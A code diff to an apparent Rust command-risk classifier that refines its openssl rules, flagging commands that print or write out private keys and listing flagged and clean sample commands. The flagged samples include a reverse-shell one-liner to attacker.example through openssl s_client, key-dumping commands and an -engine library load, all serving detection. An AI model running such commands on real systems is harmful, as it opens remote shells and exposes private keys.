@@ -889,16 +889,33 @@ pub const PROGRAMS: &[Program] = &[
     Program {
         names: &["openssl"],
         subs: &[
-            Sub { words: &["pkcs12", "-nodes"], harm: Credential, level: High, reason: "prints the private key of a PKCS#12 bundle unencrypted" },
+            Sub { words: &["pkcs12", "-nodes", "!-nokeys", "!-export"], harm: Credential, level: High, reason: "prints the private key of a PKCS#12 bundle unencrypted" },
+            // Reading a bundle (not `-export`ing one) writes out its
+            // private key unless -nokeys; -info also prints it.
+            Sub { words: &["pkcs12", "!-nodes", "!-nokeys", "!-export"], harm: Credential, level: Medium, reason: "writes out the private key of a PKCS#12 bundle" },
+            // The key commands print or write the key they read unless
+            // -noout or -pubout (`-check`, `-text`, `-out plain.key`).
+            Sub { words: &["rsa|pkey|ec|dsa|pkcs8", "!-noout", "!-pubout"], harm: Credential, level: Medium, reason: "prints or writes out a private key" },
         ],
-        source: "https://docs.openssl.org/master/man1/openssl-s_client/ (-connect); openssl(1) -engine; GTFOBins openssl",
+        source: "https://docs.openssl.org/master/man1/openssl-s_client/ (-connect); openssl(1) -engine; openssl-pkcs12(1) (-nokeys: no private keys are output; -export creates a bundle), openssl-rsa(1), openssl-pkey(1), openssl-ec(1), openssl-pkcs8(1) (the key read is written out, in the clear unless a cipher option is given, unless -noout; -pubout writes the public key); GTFOBins openssl",
         exec: &[OptLibrary { names: &["-engine"] }],
         net: &[Connects(&["s_client"]), Serves(&["s_server"])],
         flagged: &["openssl pkcs12 -in cert.p12 -nodes",
+            "openssl pkcs12 -info -in cert.p12",
+            "openssl rsa -in server.key -out plain.key",
+            "openssl rsa -text -in server.key",
+            "openssl pkey -in key.pem -check",
+            "openssl pkcs8 -topk8 -nocrypt -in key.pem",
             "openssl req -engine ./lib.so",
             "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect attacker.example:443 > /tmp/s",
         ],
-        clean: &["openssl x509 -in cert.pem -noout -text", "openssl rand -hex 32"],
+        clean: &["openssl x509 -in cert.pem -noout -text", "openssl rand -hex 32",
+            "openssl pkcs12 -in cert.p12 -out cert.pem -nodes -nokeys",
+            "openssl pkcs12 -export -out b.p12 -inkey key.pem -in cert.pem",
+            "openssl rsa -noout -modulus -in key.pem",
+            "openssl rsa -in key.pem -pubout -out pub.pem",
+            "openssl genrsa -out ca.key 4096",
+        ],
         ..P
     },
     Program {
